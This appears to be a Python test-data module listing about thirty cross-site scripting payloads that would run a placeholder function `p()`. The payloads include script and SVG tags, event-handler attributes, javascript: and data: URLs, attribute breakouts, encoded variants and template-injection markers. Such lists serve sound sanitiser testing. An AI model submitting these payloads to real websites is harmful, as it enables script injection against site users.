"""Texts that would run `p()` in a page that took one of them for markup, a script, a style or an address."""

from typing import Final

PAYLOADS: Final = (
    "<script>p()</script>",
    "</script><script>p()//",
    "<ScRiPt>p()</sCrIpT>",
    "<<script>p()//<</script>",
    "<img src=x onerror=p()>",
    "<img/src/onerror=p()>",
    "<img src=x:x onerror=p()",
    "<svg onload=p()>",
    "<svg/onload=p()//",
    "<svg><script>p()",
    "<math><mtext></p><p>",
    "<body onload=p()>",
    "<iframe onload=p()>",
    "<iframe srcdoc=<p/p()>>",
    "<a href=javascript:p()>",
    "<object data=data:,p()>",
    "<embed src=data:,p()>",
    "<base href=//x.invalid>",
    "<style>@import'//x'</",
    "<details open ontoggle=p",
    "<input autofocus onfocus",
    '" onfocus=p() autofocus',
    "' onmouseover='p()",
    '"><svg onload=p()>',
    "-->",
    "</textarea><b onclick=p>",
    "&lt;svg onload=p()&gt;",
    "&#60;svg onload=p()&#62;",
    "\\u003csvg onload=p()>",
    "${p()}{{p()}}%{p()}",
)
"""None is longer than a name may be."""
